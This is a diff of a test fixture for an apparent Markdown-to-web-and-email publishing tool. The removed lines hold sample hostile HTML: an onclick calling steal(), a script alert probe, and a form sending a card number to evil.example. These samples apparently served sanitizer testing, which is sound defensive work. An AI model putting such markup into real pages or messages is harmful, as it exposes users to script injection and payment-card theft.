@@ -56,10 +56,10 @@ FILES: dict[str, str | bytes] = {
             url: https://www.reuters.com/x
         """, body=(
         "The cable says so. [@reuters]\n\n![A chart](../images/chart.png)\n\n"
-        '<p style="color: red" class="loud" onclick="steal()">Styled.</p>\n\n'
-        '<iframe src="https://video.example/embed/1" title="A video"></iframe>\n\n'
-        "<script>alert(1)</script>\n\n"
-        '<form action="https://evil.example/"><input name="card"><button>Pay</button></form>\n\n'
+        # Scripts, frames, forms and style= are content errors in a body (test_raw_html); email_html's removal of
+        # them is unit-tested. What a body may carry and email still drops: classes and embedded media.
+        '<p class="loud">Styled.</p>\n\n'
+        '<video src="https://video.example/1.mp4" title="A video"></video>\n\n'
         "See [the plain story](plain.md).\n")),
     "vera2/posts/2025/generic.md": article("Generic", date="2025-11-19", extra="cta: generic"),
     "vera2/posts/2025/plain.md": article("Plain", date="2025-11-18"),
